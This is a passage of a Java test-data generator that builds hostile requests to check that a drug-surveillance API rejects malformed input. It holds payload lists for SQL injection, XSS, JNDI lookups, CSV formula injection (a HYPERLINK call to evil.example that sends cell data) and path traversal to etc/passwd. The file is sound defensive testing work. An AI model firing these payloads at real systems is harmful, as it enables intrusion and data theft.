package no.rusvarsel.devstack.hostile;

import no.rusvarsel.devstack.hostile.HostileRequest.Expect;
import no.rusvarsel.devstack.hostile.Json.Raw;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Consumer;
import java.util.function.Supplier;

/**
 * The hostile-input corpus (issue 9): a deterministic (seeded) list of requests against every endpoint that takes
 * input, each sent with credentials that get it past authentication so that it reaches parsing and validation.
 * <p>
 * Every request but the few marked {@link Expect#ACCEPTED} (injection strings as free text in {@code notes}, which
 * are valid) must be refused with a 4xx problem document and store nothing.
 */
public final class HostileCorpus {

    /** Bodies this large are over the {@code MAX_REQUEST_SIZE} the test starts the stack with. */
    public static final int MAX_REQUEST_SIZE = 1024 * 1024;

    static final List<String> SQL = List.of("' OR '1'='1", "'; DROP TABLE signal_ledger; --", "1); SELECT pg_sleep(30); --",
            "\" OR \"\"=\"", "admin'--", "1 UNION SELECT key_hash FROM api_key");
    static final List<String> SCRIPT = List.of("<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
            "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://127.0.0.1/a}", "<svg/onload=fetch('//x')>");
    static final List<String> FORMULA = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1");
    static final List<String> BAD_IDS = List.of("not-a-uuid", "..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "%00", "abc%00def", "%27%20OR%20%271%27%3D%271", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "1%3BDROP%20TABLE%20alert",
            "a".repeat(2000), "b".repeat(7000), "%FF%FE%FD", "00000000-0000-0000-0000-000000000000", "99999999999999999999999",
            "-1", "%20", "%C3%A6lg", "%E2%80%AE%E2%80%8B", "%0D%0ASet-Cookie:%20x=1", "%25", "..");

    private final Random random;
    private final List<HostileRequest> out = new ArrayList<>();
    private int serial;

    private HostileCorpus(long seed) {
        random = new Random(seed);
    }

    /** The corpus for this seed: the same seed always gives the same requests in the same order. */
    public static List<HostileRequest> generate(long seed) {
        var corpus = new HostileCorpus(seed);
        for (var type : HostileRequest.SOURCE_TYPES) {
            corpus.ingest(type);
        }
        corpus.ingestPaths();
        corpus.providers();
        corpus.watchlist();
        corpus.situation();
        corpus.alerts();
        corpus.subscriptions();
        return List.copyOf(corpus.out);
    }

    // ---------------------------------------------------------------- ingest

    private enum Kind { STR, OPT_STR, NUM, INT, BOOL, ENUM, DATE, INSTANT, REGION, STR_LIST }

    private record Field(String name, Kind kind, boolean item) {
    }

    private static Map<String, Object> template(String type) {
        var r = new LinkedHashMap<String, Object>();
        r.put("externalId", "HOSTILE-0");
        r.put("region", "4601");
        r.put("observedAt", "2025-03-02");
        switch (type) {
            case "wastewater" -> {
                r.put("siteId", "VEAS");
                r.put("populationServed", 650000);
                r.put("sampleStart", "2025-03-01T07:00:00Z");
                r.put("sampleEnd", "2025-03-02T07:00:00Z");
                r.put("measurements", new ArrayList<>(List.of(item("substance", "benzoylecgonine", "concentrationNgPerL", 812.5,
                        "loadMgPerDayPer1000", 455.1, "belowLoq", false))));
            }
            case "drug-checking" -> {
                r.put("form", "TABLET");
                r.put("soldAs", "MDMA");
                r.put("method", "GC_MS");
                r.put("confirmed", true);
                r.put("components", new ArrayList<>(List.of(item("substance", "MDMA", "amountMg", 120, "purityPercent", 40))));
            }
            case "seizure" -> {
                r.put("agency", "CUSTOMS");
                r.put("items", new ArrayList<>(List.of(item("substance", "cocaine", "quantity", 12.5, "unit", "G", "purityPercent", 4))));
            }
            case "patient-event" -> {
                r.put("eventType", "OVERDOSE_NONFATAL");
                r.put("setting", "AMBULANCE");
                r.put("count", 3);
                r.put("ageBand", "25-34");
                r.put("suspectedSubstances", new ArrayList<>(List.of("heroin")));
                r.put("confirmedSubstances", new ArrayList<>(List.of("morphine")));
            }
            case "syringe" -> {
                r.put("siteId", "Stavanger LAR");
                r.put("syringeCount", 120);
                r.put("detected", new ArrayList<>(List.of(item("substance", "heroin", "syringesPositive", 60))));
            }
            default -> throw new IllegalArgumentException(type);
        }
        return r;
    }

    private static Map<String, Object> item(Object... kv) {
        var m = new LinkedHashMap<String, Object>();
        for (int i = 0; i < kv.length; i += 2) {
            m.put((String) kv[i], kv[i + 1]);
        }
        return m;
    }

    private static String itemsKey(String type) {
        return switch (type) {
            case "wastewater" -> "measurements";
            case "drug-checking" -> "components";
            case "seizure" -> "items";
            case "syringe" -> "detected";
            default -> null;
        };
    }

    private static List<Field> fields(String type) {
        var f = new ArrayList<>(List.of(new Field("externalId", Kind.STR, false), new Field("region", Kind.REGION, false),
                new Field("observedAt", Kind.DATE, false)));
        switch (type) {
            case "wastewater" -> f.addAll(List.of(new Field("siteId", Kind.STR, false), new Field("populationServed", Kind.INT, false),
                    new Field("sampleStart", Kind.INSTANT, false), new Field("sampleEnd", Kind.INSTANT, false),
                    new Field("substance", Kind.STR, true), new Field("concentrationNgPerL", Kind.NUM, true),
                    new Field("loadMgPerDayPer1000", Kind.NUM, true), new Field("belowLoq", Kind.BOOL, true)));
            case "drug-checking" -> f.addAll(List.of(new Field("form", Kind.ENUM, false), new Field("soldAs", Kind.OPT_STR, false),
                    new Field("method", Kind.ENUM, false), new Field("confirmed", Kind.BOOL, false),
                    new Field("substance", Kind.STR, true), new Field("amountMg", Kind.NUM, true), new Field("purityPercent", Kind.NUM, true)));
            case "seizure" -> f.addAll(List.of(new Field("agency", Kind.ENUM, false), new Field("substance", Kind.STR, true),
                    new Field("quantity", Kind.NUM, true), new Field("unit", Kind.ENUM, true), new Field("purityPercent", Kind.NUM, true)));
            case "patient-event" -> f.addAll(List.of(new Field("eventType", Kind.ENUM, false), new Field("setting", Kind.ENUM, false),
                    new Field("count", Kind.INT, false), new Field("ageBand", Kind.OPT_STR, false),
                    new Field("suspectedSubstances", Kind.STR_LIST, false), new Field("confirmedSubstances", Kind.STR_LIST, false)));
            case "syringe" -> f.addAll(List.of(new Field("siteId", Kind.STR, false), new Field("syringeCount", Kind.INT, false),
                    new Field("substance", Kind.STR, true), new Field("syringesPositive", Kind.INT, true)));
            default -> throw new IllegalArgumentException(type);
        }
        return f;
    }

    /** Fields whose every value is checked against a closed set or a format: anything hostile there is invalid. */
    private static List<Field> strictFields(String type) {
        return fields(type).stream().filter(f -> switch (f.kind()) {
            case REGION, DATE, ENUM, INSTANT -> true;
            default -> false;
        }).toList();
    }

    private Map<String, Object> record(String type) {
        var r = template(type);
        r.put("externalId", "HOSTILE-" + type + "-" + (++serial));
        return r;
    }

    private static void set(Map<String, Object> record, String type, Field field, Object value) {
        if (field.item()) {
            @SuppressWarnings("unchecked")
            var items = (List<Map<String, Object>>) record.get(itemsKey(type));
            items.get(0).put(field.name(), value);
        } else {
            record.put(field.name(), value);
        }
    }

    private static final List<String> FORMATS = List.of("json", "array", "ndjson", "csv");

    private void ingest(String type) {
        for (var format : FORMATS) {
            malformed(type, format);
        }
        for (var field : fields(type)) {
            for (var value : wrongTypes(field)) {
                for (var format : List.of("json", "array", "ndjson")) {
                    mutated("wrong-types", type, format, r -> set(r, type, field, value), Expect.REJECTED, null);
                }
            }
            var text = wrongText(field);
            if (text != null) {
                mutated("wrong-types", type, "csv", r -> set(r, type, field, text), Expect.REJECTED, null);
            }
        }
        for (var format : FORMATS) {
            mutated("wrong-types", type, format, r -> r.put("unknownField", "x"), Expect.REJECTED, null);
            mutated("wrong-types", type, format, r -> r.remove("region"), Expect.REJECTED, null);
            mutated("wrong-types", type, format, r -> r.remove("observedAt"), Expect.REJECTED, null);
        }
        hugeNumbers(type);
        if (type.equals("wastewater")) {
            // a catchment larger than any treatment plant's (issue 9: there was no upper bound)
            for (var format : FORMATS) {
                mutated("huge-numbers", type, format, r -> r.put("populationServed", 20_000_001), Expect.REJECTED, null);
            }
        }
        deepNesting(type);
        longStrings(type);
        controlCharacters(type);
        injections(type);
        identityNumbers(type);
        for (var format : FORMATS) {
            var filler = "x".repeat(MAX_REQUEST_SIZE + MAX_REQUEST_SIZE / 2);
            mutated("oversized", type, format, r -> r.put("notes", filler), Expect.TOO_LARGE, null);
        }
        for (var ct : List.of("text/plain", "application/xml", "multipart/form-data; boundary=xyz", "application/x-www-form-urlencoded",
                "image/png", "application/octet-stream", "text/html", "application/jsonx", "text/csv-schema", "*/*")) {
            add("wrong-content-type", "ingest", "POST", "/api/v1/signals/" + type, type, ct, Json.write(record(type)),
                    Expect.UNSUPPORTED_MEDIA_TYPE, null, 0);
        }
    }

    private List<Object> wrongTypes(Field f) {
        return switch (f.kind()) {
            case STR -> List.of(Map.of(), List.of(1), true);
            case OPT_STR -> List.of(Map.of("a", 1), List.of("x"));
            case NUM -> List.of("abc", Map.of(), true, List.of(1));
            case INT -> List.of("abc", Map.of(), 2.5, false);
            case BOOL -> List.of("maybe", 3, Map.of());
            case ENUM -> List.of("NOT_A_VALUE", 7, Map.of(), "");
            case DATE -> List.of("yesterday", "2025-13-45", 20250301, "2025-02-30", "2999-01-01");
            case INSTANT -> List.of("soon", "2025-03-01T25:61:00Z", 1.7e9);
            case REGION -> List.of("9999", "03011", 301, "", "0");
            case STR_LIST -> List.of("heroin", Map.of(), 5, List.of(Map.of()), List.of(List.of("x")));
        };
    }

    private static String wrongText(Field f) {
        return switch (f.kind()) {
            case NUM -> "abc";
            case INT -> "2.5";
            case BOOL -> "maybe";
            case ENUM -> "NOT_A_VALUE";
            case DATE -> "yesterday";
            case INSTANT -> "soon";
            case REGION -> "9999";
            default -> null;
        };
    }

    private void malformed(String type, String format) {
        var valid = Json.text(record(type));
        var second = Json.text(record(type));
        switch (format) {
            case "json" -> {
                for (int i = 0; i < 5; i++) {
                    raw("malformed-json", type, "application/json", valid.substring(0, 1 + random.nextInt(valid.length() - 2)));
                }
                for (var body : List.of("", "{", "}", "null", "42", "\"a string\"", "true", "{]", valid + valid, valid.replace("\"", "'"),
                        valid.replaceFirst("\\{", "{/* comment */"), valid.replaceFirst("\"region\"", "region"),
                        valid.replaceFirst(",", ",,"), valid.replace("}", ",}"), valid.replaceFirst(":", ":NaN,\"x\":"),
                        "\u0000\u0001\u0002", "{\"externalId\":\"x\" \"region\":\"0301\"}", valid.replaceFirst("\"2025-03-02\"", "2025-03-02"))) {
                    raw("malformed-json", type, "application/json", body);
                }
            }
            case "array" -> {
                for (int i = 0; i < 4; i++) {
                    var body = "[" + valid + "," + second + "]";
                    raw("malformed-json", type, "application/json", body.substring(0, 1 + random.nextInt(body.length() - 2)));
                }
                for (var body : List.of("[", "[]]", "[1,2,3]", "[null]", "[\"x\"]", "[[" + valid + "]]", "[" + valid + "," + second + ",]",
                        "[" + valid + " " + second + "]", "[" + valid + ",[]]", "[" + valid + ",true]")) {
                    raw("malformed-json", type, "application/json", body);
                }
            }
            case "ndjson" -> {
                for (var body : List.of(valid + "\n" + second.substring(0, second.length() / 2), valid + "\n{\n" + second,
                        valid + "\n[1,2]\n", valid + "\n42\n", valid + second, "\n\n\n", valid + "\nnull\n", valid + "\n" + "}{" + "\n",
                        valid + "\n\u0000\n" + second, "[" + valid + "]")) {
                    raw("malformed-ndjson", type, "application/x-ndjson", body);
                }
            }
            case "csv" -> {
                var csv = Csv.of(type, List.of(record(type)));
                var lines = csv.split("\r\n");
                var header = lines[0];
                var row = lines[1];
                for (var body : List.of(header + "\r\n" + row.replaceFirst(",", ",\"unterminated"),
                        header + "\r\n" + row + ",extra,cells",
                        row + "\r\n" + row,
                        header + ",bogusColumn\r\n" + row + ",x",
                        header + ",externalId\r\n" + row + ",OTHER",
                        header + "\r\n" + row + "\r\n" + row.replaceFirst(",4601,", ",0301,"),
                        "",
                        "\u0000\u0001\u0002,\u0003\r\n\u0004",
                        header.replace(",", "\t") + "\r\n" + row.replace(",", "\t"),
                        header + "\r\n" + row.replaceFirst(",", ",\"a\"b\""),
                        header.replace(',', ';') + "\r\n" + row,
                        "\uFEFF" + header + "\r\n" + "\uFEFF" + row + "\r\n" + "\"" + "x".repeat(5000))) {
                    raw("malformed-csv", type, "text/csv", body);
                }
                // a second record whose row stops one cell short of the header (issue 9: the missing cell was read as empty)
                var two = Csv.of(type, List.of(record(type), record(type))).split("\r\n");
                raw("malformed-csv", type, "text/csv", two[0] + "\r\n" + two[1] + "\r\n" + two[2].substring(0, two[2].lastIndexOf(',')));
                add("malformed-csv", "ingest", "POST", "/api/v1/signals/" + type, type, "text/csv",
                        new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D}, Expect.REJECTED, null, 0);
            }
            default -> throw new IllegalArgumentException(format);
        }
    }

    private void raw(String category, String type, String contentType, String body) {
        add(category, "ingest", "POST", "/api/v1/signals/" + type, type, contentType, body.getBytes(StandardCharsets.UTF_8),
                Expect.REJECTED, null, 0);
    }

    /**
     * A record with one mutation, in the given format. In an array or NDJSON the mutated record is the second,
     * after a valid one, which must then not be stored either (all-or-nothing).
     */
    private void mutated(String category, String type, String format, Consumer<Map<String, Object>> mutation, Expect expect,
                         String secret) {
        var bad = record(type);
        mutation.accept(bad);
        var good = record(type);
        byte[] body;
        String contentType;
        int records;
        switch (format) {
            case "json" -> {
                body = Json.write(bad);
                contentType = "application/json";
                records = 1;
            }
            case "array" -> {
                body = Json.write(List.of(good, bad));
                contentType = "application/json";
                records = 2;
            }
            case "ndjson" -> {
                var b = new ByteArrayOutputStream();
                b.writeBytes(Json.write(good));
                b.write('\n');
                b.writeBytes(Json.write(bad));
                b.write('\n');
                body = b.toByteArray();
                contentType = "application/x-ndjson";
                records = 2;
            }
            case "csv" -> {
                body = Csv.bytes(type, List.of(good, bad));
                contentType = "text/csv";
                records = 2;
            }
            default -> throw new IllegalArgumentException(format);
        }
        add(category, "ingest", "POST", "/api/v1/signals/" + type, type, contentType, body, expect, secret,
                expect == Expect.ACCEPTED ? records : 0);
    }

    private void hugeNumbers(String type) {
        var numeric = fields(type).stream().filter(f -> f.kind() == Kind.NUM || f.kind() == Kind.INT).toList();
        var digits = "9".repeat(400);
        for (var field : numeric) {
            for (var value : List.of(Raw.of("1e999999"), Raw.of("-1e999999"), Raw.of("-" + digits), Raw.of("-1e308"),
                    Raw.of("-" + digits + "." + digits))) {
                for (var format : List.of("json", "array")) {
                    mutated("huge-numbers", type, format, r -> set(r, type, field, value), Expect.REJECTED, null);
                }
            }
            mutated("huge-numbers", type, "csv", r -> set(r, type, field, "-1e999999"), Expect.REJECTED, null);
            mutated("huge-numbers", type, "csv", r -> set(r, type, field, "-" + digits), Expect.REJECTED, null);
            if (field.kind() == Kind.INT) {
                for (var value : List.of(Raw.of(digits), Raw.of("1e20"), Raw.of("9223372036854775808"),
                        Raw.of("1e999999"))) {
                    mutated("huge-numbers", type, "json", r -> set(r, type, field, value), Expect.REJECTED, null);
                }
                mutated("huge-numbers", type, "csv", r -> set(r, type, field, digits), Expect.REJECTED, null);
            }
        }
        // a huge number where a string belongs
        mutated("huge-numbers", type, "json", r -> r.put("region", Raw.of(digits)), Expect.REJECTED, null);
        mutated("huge-numbers", type, "json", r -> r.put("observedAt", Raw.of("1e999999")), Expect.REJECTED, null);
    }

    private void deepNesting(String type) {
        for (var depth : List.of(600, 5_000, 50_000)) {
            var arrays = "[".repeat(depth) + "]".repeat(depth);
            var objects = "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
            for (var format : List.of("json", "array", "ndjson")) {
                mutated("deep-nesting", type, format, r -> r.put("notes", Raw.of(arrays)), Expect.REJECTED, null);
                mutated("deep-nesting", type, format, r -> r.put("region", Raw.of(objects)), Expect.REJECTED, null);
            }
            raw("deep-nesting", type, "application/json", "[".repeat(depth) + "]".repeat(depth));
            raw("deep-nesting", type, "application/json", "[".repeat(depth));
        }
        var key = itemsKey(type);
        if (key != null) {
            mutated("deep-nesting", type, "json", r -> r.put(key, Raw.of("[".repeat(2000) + "]".repeat(2000))), Expect.REJECTED, null);
        }
    }

    private void longStrings(String type) {
        var strict = strictFields(type);
        for (var length : List.of(129, 10_000, 500_000)) {
            for (var format : FORMATS) {
                mutated("long-strings", type, format, r -> r.put("externalId", "E".repeat(length)), Expect.REJECTED, null);
                var field = strict.get(random.nextInt(strict.size()));
                mutated("long-strings", type, format, r -> set(r, type, field, "0".repeat(length)), Expect.REJECTED, null);
            }
            mutated("long-strings", type, "json", r -> r.put("k".repeat(length), "v"), Expect.REJECTED, null);
        }
    }

    private void controlCharacters(String type) {
        var strict = strictFields(type);
        var invalidUtf8 = List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF, (byte) 0xFE}, new byte[] {(byte) 0xC0, (byte) 0xAF},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80});
        for (var bytes : invalidUtf8) {
            var field = strict.get(random.nextInt(strict.size()));
            var value = new ByteArrayOutputStream();
            value.write('"');
            value.writeBytes("46".getBytes(StandardCharsets.US_ASCII));
            value.writeBytes(bytes);
            value.write('"');
            for (var format : List.of("json", "array", "ndjson")) {
                mutated("control-chars-invalid-utf8", type, format, r -> set(r, type, field, new Raw(value.toByteArray())), Expect.REJECTED, null);
            }
            // invalid UTF-8 as a field name
            var name = new ByteArrayOutputStream();
            name.writeBytes("{\"".getBytes(StandardCharsets.US_ASCII));
            name.writeBytes(bytes);
            name.writeBytes("\":1}".getBytes(StandardCharsets.US_ASCII));
            mutated("control-chars-invalid-utf8", type, "json", r -> r.put("unknown", new Raw(name.toByteArray())), Expect.REJECTED, null);
        }
        for (var control : List.of("\u0000", "\u0007", "\u001b[2J", "\r\nX-Injected: 1", "\u202e", "\ud800", "\uffff")) {
            var field = strict.get(random.nextInt(strict.size()));
            for (var format : FORMATS) {
                mutated("control-chars-invalid-utf8", type, format, r -> set(r, type, field, "46" + control), Expect.REJECTED, null);
            }
        }
        // raw (unescaped) control characters inside a JSON string are not JSON
        for (var control : List.of("\u0000", "\u0001", "\n", "\u001f")) {
            mutated("control-chars-invalid-utf8", type, "json", r -> r.put("notes", Raw.of("\"a" + control + "b\"")), Expect.REJECTED, null);
            mutated("control-chars-invalid-utf8", type, "ndjson", r -> r.put("notes", Raw.of("\"a" + control + "b\"")), Expect.REJECTED, null);
        }
    }

    private void injections(String type) {
        var strict = strictFields(type);
        var all = new ArrayList<String>();
        all.addAll(SQL);
        all.addAll(SCRIPT);
        all.addAll(FORMULA);
        for (int i = 0; i < all.size(); i++) {
            var value = all.get(i);
            var field = strict.get(i % strict.size());
            mutated("injection", type, FORMATS.get(i % FORMATS.size()), r -> set(r, type, field, value), Expect.REJECTED, null);
            mutated("injection", type, "csv", r -> set(r, type, field, value), Expect.REJECTED, null);
            // unknown field named like an injection
            if (i % 3 == 0) {
                mutated("injection", type, "json", r -> r.put(value, "x"), Expect.REJECTED, null);
            }
        }
        // the source type in the path
        for (var value : List.of(type + "'--", type + "%27%20OR%201%3D1", type + "%3Cscript%3E", "..%2F" + type, type + "%00")) {
            add("injection", "ingest", "POST", "/api/v1/signals/" + value, type, "application/json", Json.write(record(type)),
                    Expect.REJECTED, null, 0);
        }
        // valid but odd: injection strings as free text in notes are data, accepted and stored as sent, never evaluated
        for (var value : List.of(SQL.get(1), SCRIPT.get(0), FORMULA.get(0), FORMULA.get(1))) {
            mutated("injection", type, "json", r -> r.put("notes", value), Expect.ACCEPTED, null);
        }
        mutated("injection", type, "csv", r -> r.put("notes", FORMULA.get(2)), Expect.ACCEPTED, null);
    }

    private void identityNumbers(String type) {
        var ids = new ArrayList<String>();
        for (int i = 0; i < 6; i++) {
            ids.add(IdentityNumbers.fodselsnummer(random));
        }
        ids.add(IdentityNumbers.dNumber(random));
        ids.add(IdentityNumbers.dNumber(random));
        var textFields = fields(type).stream().filter(f -> f.kind() == Kind.STR || f.kind() == Kind.OPT_STR).toList();
        for (int i = 0; i < ids.size(); i++) {
            var id = ids.get(i);
            var spaced = id.substring(0, 6) + " " + id.substring(6);
            var field = textFields.get(i % textFields.size());
            var format = FORMATS.get(i % FORMATS.size());
            mutated("identity-numbers", type, format, r -> r.put("notes", "pasient " + id + " ble fulgt opp"), Expect.REJECTED, id);
            mutated("identity-numbers", type, format, r -> set(r, type, field, "x" + spaced), Expect.REJECTED, id);
            mutated("identity-numbers", type, "json", r -> r.put("fnr", id), Expect.REJECTED, id);
            mutated("identity-numbers", type, "json", r -> r.put("notes", Raw.of(id.startsWith("0") ? id.substring(1) : id)),
                    Expect.REJECTED, id.startsWith("0") ? id.substring(1) : id);
        }
        if (type.equals("patient-event")) {
            mutated("identity-numbers", type, "json", r -> r.put("suspectedSubstances", List.of("heroin", ids.get(0))), Expect.REJECTED, ids.get(0));
            mutated("identity-numbers", type, "csv", r -> r.put("suspectedSubstances", List.of("heroin", ids.get(1))), Expect.REJECTED, ids.get(1));
            mutated("identity-numbers", type, "json", r -> r.put("ageBand", ids.get(2).substring(0, 6) + "-" + ids.get(2).substring(6)),
                    Expect.REJECTED, ids.get(2));
        }
    }

    private void ingestPaths() {
        for (var type : HostileRequest.SOURCE_TYPES) {
            for (var id : BAD_IDS) {
                if (id.equals("..")) {
                    continue;
                }
                add("path-params", "ingest", "GET", "/api/v1/signals/" + id, type, null, null, Expect.REJECTED, null, 0);
            }
        }
        for (var id : BAD_IDS) {
            add("path-params", "ingest", "POST", "/api/v1/signals/" + id, "drug-checking", "application/json",
                    Json.write(record("drug-checking")), Expect.REJECTED, null, 0);
        }
    }

    // ---------------------------------------------------------------- provider administration (ADMIN)

    private void providers() {
        var valid = new LinkedHashMap<String, Object>();
        valid.put("id", "hostile-lab");
        valid.put("name", "Hostile lab");
        valid.put("sourceTypes", List.of("drug-checking"));
        valid.put("regions", List.of("03"));
        var invalid = new ArrayList<Map<String, Object>>();
        for (var id : List.of("UPPER", "-dash-first", "a".repeat(64), "", "with space", "x'; DROP TABLE provider; --", "<script>",
                "a/../b", "æøå", "a\u0000b")) {
            var p = Json.copy(valid);
            p.put("id", id);
            invalid.add(p);
        }
        for (var name : List.of("", "   ", "n".repeat(201), "n".repeat(100_000), "lab\u0000", "a\u0007b", "x\r\ny")) {
            var p = Json.copy(valid);
            p.put("id", "hostile-" + (++serial));
            p.put("name", name);
            invalid.add(p);
        }
        for (Object types : List.of(List.of(), List.of("bogus"), List.of("drug-checking", "DROP TABLE"), Map.of())) {
            var p = Json.copy(valid);
            p.put("id", "hostile-" + (++serial));
            p.put("sourceTypes", types);
            invalid.add(p);
        }
        for (Object regions : List.of(List.of("99"), List.of("0301' OR '1'='1"), List.of(3), List.of(Map.of()), Map.of())) {
            var p = Json.copy(valid);
            p.put("id", "hostile-" + (++serial));
            p.put("regions", regions);
            invalid.add(p);
        }
        for (Object minutes : List.of(0, -1, Raw.of("1e20"), Raw.of("9".repeat(400)), "sixty", Raw.of("-1e999999"), 2.5, List.of(60))) {
            var p = Json.copy(valid);
            p.put("id", "hostile-" + (++serial));
            p.put("expectedIntervalMinutes", minutes);
            invalid.add(p);
        }
        for (Object id : List.of(Map.of(), List.of(Map.of()))) {
            var p = Json.copy(valid);
            p.put("id", id);
            invalid.add(p);
        }
        var missing = Json.copy(valid);
        missing.remove("id");
        invalid.add(missing);
        var noTypes = Json.copy(valid);
        noTypes.put("id", "hostile-" + (++serial));
        noTypes.remove("sourceTypes");
        invalid.add(noTypes);
        for (var p : invalid) {
            add("wrong-types", "ingest", "POST", "/api/v1/providers", "ADMIN", "application/json", Json.write(p), Expect.REJECTED, null, 0);
        }
        jsonEndpointAttacks("ingest", "POST", "/api/v1/providers", "ADMIN", Json.text(Map.of("id", "x", "name", "y")));
        strictJson("ingest", "POST", "/api/v1/providers", "ADMIN", () -> {
            var p = Json.copy(valid);
            p.put("id", "hostile-" + (++serial));
            return p;
        }, "name");
        // a fraction, or a second body, for an existing provider's interval (issue 9: 2.5 was taken as 2)
        for (var body : List.of("{\"expectedIntervalMinutes\":2.5}", "{\"expectedIntervalMinutes\":[60]}",
                "{\"expectedIntervalMinutes\":\"60\"}", "{\"expectedIntervalMinutes\":60} {\"expectedIntervalMinutes\":1}")) {
            add("wrong-types", "ingest", "PUT", "/api/v1/providers/drug-checking-dev/expected-interval", "ADMIN", "application/json",
                    body.getBytes(StandardCharsets.UTF_8), Expect.REJECTED, null, 0);
        }
        for (var id : BAD_IDS) {
            add("path-params", "ingest", "POST", "/api/v1/providers/" + id + "/keys", "ADMIN", null, null, Expect.REJECTED, null, 0);
            add("path-params", "ingest", "DELETE", "/api/v1/providers/" + id + "/keys/" + id, "ADMIN", null, null, Expect.REJECTED, null, 0);
            add("path-params", "ingest", "DELETE", "/api/v1/providers/drug-checking-dev/keys/" + id, "ADMIN", null, null, Expect.REJECTED, null, 0);
            add("path-params", "ingest", "PUT", "/api/v1/providers/" + id + "/expected-interval", "ADMIN", "application/json",
                    "{\"expectedIntervalMinutes\":60}".getBytes(StandardCharsets.UTF_8), Expect.REJECTED, null, 0);
        }
        for (var body : List.of("{\"expectedIntervalMinutes\":0}", "{\"expectedIntervalMinutes\":-5}", "{\"expectedIntervalMinutes\":\"x\"}",
                "{\"expectedIntervalMinutes\":1e999999}", "{\"expectedIntervalMinutes\":" + "9".repeat(300) + "}", "{\"expectedIntervalMinutes\":",
                "[]", "{\"expectedIntervalMinutes\":2.5}")) {
            add("wrong-types", "ingest", "PUT", "/api/v1/providers/nobody-such/expected-interval", "ADMIN", "application/json",
                    body.getBytes(StandardCharsets.UTF_8), Expect.REJECTED, null, 0);
        }
    }

    /**
     * A valid body followed by more content, and a valid body with one text field as a one-element list or a number:
     * the framework took the first value and ignored the rest, and read {@code ["x"]} and {@code 12345} as text (issue 9).
     */
    private void strictJson(String service, String method, String path, String credential, Supplier<Map<String, Object>> valid,
                            String textField) {
        for (var tail : List.of(" " + Json.text(valid.get()), "]", "x", ",{}", "\n{}", "\"")) {
            add("malformed-json", service, method, path, credential, "application/json",
                    (Json.text(valid.get()) + tail).getBytes(StandardCharsets.UTF_8), Expect.REJECTED, null, 0);
        }
        var listed = valid.get();
        listed.put(textField, List.of(listed.get(textField)));
        var number = valid.get();
        number.put(textField, 12345);
        for (var p : List.of(listed, number)) {
            add("wrong-types", service, method, path, credential, "application/json", Json.write(p), Expect.REJECTED, null, 0);
        }
    }

    /** Malformed JSON, deep nesting, invalid UTF-8, oversized bodies and wrong content types against one JSON endpoint. */
    private void jsonEndpointAttacks(String service, String method, String path, String credential, String sample) {
        for (int i = 0; i < 4; i++) {
            add("malformed-json", service, method, path, credential, "application/json",
                    sample.substring(0, 1 + random.nextInt(sample.length() - 2)).getBytes(StandardCharsets.UTF_8), Expect.REJECTED, null, 0);
        }
        for (var body : List.of("{", "[", "42", "\"x\"", "{]", sample.replace("\"", "'"), sample + sample, "{\"a\":1,}", "\u0000\u0001")) {
            add("malformed-json", service, method, path, credential, "application/json", body.getBytes(StandardCharsets.UTF_8),
                    Expect.REJECTED, null, 0);
        }
        for (var depth : List.of(1_000, 100_000)) {
            add("deep-nesting", service, method, path, credential, "application/json",
                    ("{\"id\":" + "[".repeat(depth) + "]".repeat(depth) + "}").getBytes(StandardCharsets.UTF_8), Expect.REJECTED, null, 0);
            add("deep-nesting", service, method, path, credential, "application/json",
                    ("{\"a\":".repeat(depth) + "1" + "}".repeat(depth)).getBytes(StandardCharsets.UTF_8), Expect.REJECTED, null, 0);
        }
        var utf8 = new ByteArrayOutputStream();
        utf8.writeBytes("{\"id\":\"".getBytes(StandardCharsets.US_ASCII));
        utf8.writeBytes(new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xED, (byte) 0xA0, (byte) 0x80});
        utf8.writeBytes("\"".getBytes(StandardCharsets.US_ASCII));
        add("control-chars-invalid-utf8", service, method, path, credential, "application/json", utf8.toByteArray(), Expect.REJECTED, null, 0);
        add("control-chars-invalid-utf8", service, method, path, credential, "application/json",
                "{\"id\":\"a\u0000\nb".getBytes(StandardCharsets.UTF_8), Expect.REJECTED, null, 0);
        add("long-strings", service, method, path, credential, "application/json",
                ("{\"" + "k".repeat(300_000) + "\":1}").getBytes(StandardCharsets.UTF_8), Expect.REJECTED, null, 0);
        add("oversized", service, method, path, credential, "application/json",
                ("{\"id\":\"" + "x".repeat(MAX_REQUEST_SIZE + MAX_REQUEST_SIZE / 2) + "\"}").getBytes(StandardCharsets.UTF_8),
                Expect.TOO_LARGE, null, 0);
        for (var ct : List.of("text/plain", "application/xml", "multipart/form-data; boundary=xyz", "application/x-www-form-urlencoded",
                "text/csv")) {
            add("wrong-content-type", service, method, path, credential, ct, sample.getBytes(StandardCharsets.UTF_8), Expect.REJECTED, null, 0);
        }
    }

    // ---------------------------------------------------------------- watchlist (OPERATOR) and situation (ANALYST)

    private void watchlist() {
        var valid = new LinkedHashMap<String, Object>();
        valid.put("id", "hostile-substance");
        valid.put("name", "Hostile");
        valid.put("class", "NITAZENE_OPIOID");
        valid.put("hazard", "CRITICAL");
        valid.put("synonyms", List.of("hostile-x"));
        var path = "/api/v1/watchlist/hostile-substance";
        var invalid = new ArrayList<Map<String, Object>>();
        for (var field : List.of("id", "name", "class", "hazard")) {
            var missing = Json.copy(valid);
            missing.remove(field);
            invalid.add(missing);
            for (Object wrong : field.equals("id") ? List.of(Map.of(), List.of(1), 5) : field.equals("name") ? List.of(Map.of()) : List.of(Map.of(), List.of(1))) {
                var p = Json.copy(valid);
                p.put(field, wrong);
                invalid.add(p);
